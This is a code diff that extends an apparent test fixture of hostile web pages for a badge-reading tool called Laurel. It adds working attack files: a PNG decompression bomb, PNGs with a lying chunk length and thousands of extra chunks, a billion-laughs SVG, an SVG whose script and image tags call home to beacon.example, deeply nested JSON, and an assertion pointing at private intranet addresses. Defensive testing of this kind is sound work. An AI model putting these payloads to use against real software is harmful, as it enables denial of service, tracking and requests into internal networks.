@@ -1,5 +1,7 @@
 // hostile.example: pages that fight Laurel or spy on it. `whatIsKnown()` returns what the spy learned.
+import { crc32, deflateSync } from 'node:zlib';
 import type { SampleAward } from './award';
+import { plainPng } from './news';
 import { html } from './page-frame';
 import type { Answer, Site } from './server';
 
@@ -49,6 +51,29 @@ export function buildHostile(awards: SampleAward[]): Site {
   const pictures = shown
     .map(({ slug }) => `<img src="/badges/${slug}.png" width="200" height="200" alt="">`)
     .join('\n');
+  pages.set('/plain', html(page('Shows three badges', pictures, '')));
+  pages.set('/tiny.png', {
+    type: 'image/png',
+    body: plainPng(64, 64, [190, 200, 205]),
+    headers: { 'cache-control': 'max-age=3600' },
+  });
+  for (const [path, answer] of bombs()) pages.set(path, answer);
+  const names = bombs().map(([path]) => path);
+  pages.set(
+    '/bombs',
+    html(
+      page(
+        'Hands over bombs',
+        [
+          ...names.map((path) => `<img src="${path}" width="120" height="120" alt="badge">`),
+          `<img src="/badges/${shown[0]?.slug}.png" width="200" height="200" alt="">`,
+          `<script type="application/ld+json">${deepJson()}</script>`,
+          `<script type="application/ld+json">${JSON.stringify(intranetAssertion())}</script>`,
+        ].join('\n'),
+        '',
+      ),
+    ),
+  );
   pages.set('/removes', html(page('Removes what it did not make', pictures, REMOVER)));
   pages.set(
     '/spies',
@@ -163,4 +188,57 @@ function spy(shown: SampleAward[]): string {
       globals: Object.getOwnPropertyNames(window).filter((name) => !globals.has(name) && name !== 'whatIsKnown'),
     };
   };`;
+}
+
+/** Badge pictures that are made to exhaust, mislead or call home whoever opens them. */
+function bombs(): [string, Answer][] {
+  const base = Buffer.from(plainPng(64, 64, [150, 120, 90]));
+  const afterHeader = 8 + 25;
+  const insert = (extra: Buffer) =>
+    Buffer.concat([base.subarray(0, afterHeader), extra, base.subarray(afterHeader)]);
+  const keyword = (compressed: number) => Buffer.from(`openbadges\0${String.fromCharCode(compressed)}\0\0\0`);
+  const bomb = Buffer.concat([keyword(1), deflateSync(Buffer.alloc(64_000_000, 0x20))]);
+  const lying = chunk('iTXt', Buffer.concat([keyword(0), Buffer.from('{}')]));
+  lying.writeUInt32BE(0x7fff_fff0, 0);
+  const png = (body: Buffer): Answer => ({ type: 'image/png', body });
+  return [
+    ['/bomb.png', png(insert(chunk('iTXt', bomb)))],
+    ['/lying.png', png(insert(lying))],
+    [
+      '/endless.png',
+      png(insert(Buffer.concat(Array.from({ length: 9_000 }, () => chunk('tEXt', Buffer.from('a\0b')))))),
+    ],
+    ['/entities.svg', { type: 'image/svg+xml', body: BILLION_LAUGHS }],
+    ['/calls-home.svg', { type: 'image/svg+xml', body: CALLS_HOME }],
+  ];
+}
+
+function chunk(type: string, data: Buffer): Buffer {
+  const named = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+  length.writeUInt32BE(data.length);
+  sum.writeUInt32BE(crc32(named));
+  return Buffer.concat([length, named, sum]);
+}
+
+const BILLION_LAUGHS = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "haha"><!ENTITY b "${'&a;'.repeat(50)}"><!ENTITY c "${'&b;'.repeat(50)}"><!ENTITY d "${'&c;'.repeat(50)}">]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" viewBox="0 0 9 9"><rect width="9" height="9"/><openbadges:assertion verify="https://beacon.example/a">&d;</openbadges:assertion></svg>`;
+
+const CALLS_HOME = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:openbadges="http://openbadges.org" viewBox="0 0 9 9" onload="fetch('https://beacon.example/b')"><script>fetch('https://beacon.example/c')</script><image xlink:href="https://beacon.example/d.png" width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="https://beacon.example/e.png"/></foreignObject><rect width="9" height="9"/><openbadges:assertion verify="https://beacon.example/f"><![CDATA[{"@context":"https://w3id.org/openbadges/v2","type":"Assertion","id":"urn:uuid:1","badge":{"type":"BadgeClass","name":"x","image":"https://beacon.example/g.png"}}]]></openbadges:assertion></svg>`;
+
+function deepJson(): string {
+  return `{"@context":"https://www.w3.org/ns/credentials/v2","type":"OpenBadgeCredential","a":${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
+}
+
+function intranetAssertion() {
+  const id = 'https://10.0.0.7/assertions/1';
+  return {
+    '@context': 'https://w3id.org/openbadges/v2',
+    type: 'Assertion',
+    id,
+    recipient: { type: 'email', hashed: false, identity: 'mara@portfolio.example' },
+    badge: 'https://192.168.1.1/reboot',
+    verification: { type: 'HostedBadge' },
+    issuedOn: '2026-01-01T00:00:00Z',
+  };
 }
